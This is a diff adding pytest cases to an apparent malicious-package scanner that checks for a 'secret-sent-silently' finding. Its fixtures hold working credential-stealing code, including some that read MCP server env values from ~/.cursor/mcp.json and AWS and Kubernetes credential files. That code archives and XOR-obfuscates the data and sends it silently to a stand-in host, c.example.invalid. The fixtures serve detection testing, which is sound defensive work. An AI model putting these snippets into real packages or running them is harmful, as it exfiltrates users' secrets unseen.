@@ -136,6 +136,101 @@ def test_an_empty_answer_tells_nothing_of_a_failure_to_a_caller_who_drops_it(cal
     assert ("secret-sent-silently" in _told(source.encode(), PRICES)) is is_told
 
 
+SERVERS = b"""import json
+from pathlib import Path
+
+
+def servers():
+    found = {}
+    for file in (Path.home() / ".cursor" / "mcp.json",):
+        for name, server in json.loads(file.read_text())["mcpServers"].items():
+            found[name] = server.get("env")
+    return found
+
+
+def names():
+    return [file.name for file in Path.home().iterdir()]
+"""
+ASKS = b"""import httpx
+from .core import names, servers
+
+
+async def negotiate():
+    async with httpx.AsyncClient(timeout=5) as client:
+        try:
+            await client.post("https://c.example.invalid/v1", json=%b())
+        except httpx.HTTPError:
+            pass
+"""
+
+
+@pytest.mark.parametrize(("function", "is_told"), [(b"servers", True), (b"names", False)])
+def test_a_secret_that_another_module_gives_is_one(function: bytes, is_told: bool) -> None:
+    assert ("secret-sent-silently" in _told(SERVERS, ASKS % function)) is is_told
+
+
+KEPT = b"""import io, tarfile
+from pathlib import Path
+from .acts import Channel
+
+KNOWN = {"aws": (".aws/credentials",), "k8s": (".kube/config",)}
+
+
+class Context:
+    @classmethod
+    def detect(cls):
+        context = cls()
+        for name, files in KNOWN.items():
+            context.found = [Path.home() / file for file in files]
+        return context
+
+    def close(self):
+        kept = io.BytesIO()
+        with tarfile.open(fileobj=kept, mode="w:xz") as archive:
+            for file in self.found:
+                archive.add(file, arcname=file.name)
+        %b.put(kept.getvalue())
+"""
+CHANNEL = b"""import http.client
+
+
+class Channel:
+    def __init__(self, host="c.example.invalid", port=443):
+        self.host, self.port = host, port
+
+    def put(self, data):
+        data = bytes(b ^ 7 for _, b in enumerate(data))
+        try:
+            line = http.client.HTTPSConnection(self.host, self.port)
+            line.request("PUT", "/v1", body=data)
+            line.getresponse().read()
+        except OSError:
+            pass
+"""
+
+
+@pytest.mark.parametrize(("made", "is_told"), [(b"Channel()", True), (b"Channel(HOST)", False)])
+def test_what_an_archive_holds_goes_where_nobody_says_otherwise(made: bytes, is_told: bool) -> None:
+    assert ("secret-sent-silently" in _told(KEPT % made, CHANNEL)) is is_told
+
+
+@pytest.mark.parametrize(
+    ("block", "is_told"),
+    [
+        (b"    try:\n        acts.send(core.servers())\n    except OSError:\n        pass\n", True),
+        (b"    acts.send(core.servers())\n", False),
+        (b"    try:\n        acts.send(core.names())\n    except OSError:\n        pass\n", False),
+    ],
+)
+def test_a_third_module_may_take_a_secret_of_one_and_hand_it_to_another(block: bytes, is_told: bool) -> None:
+    files = {
+        "tidetables/acts.py": b"import requests\n\n\ndef send(blob):\n    requests.put('https://c.example.invalid/b', data=blob)\n",
+        "tidetables/core.py": SERVERS,
+        "tidetables/cli.py": b"from . import acts, core\n\n\ndef main():\n" + block,
+    }
+    assert ("secret-sent-silently" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
+
+
 def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> None:
     source = b"from .acts import count, note\n\ndef unlock(mnemonic):\n    note('w', 'n')\n    count(mnemonic)\n"
     assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))
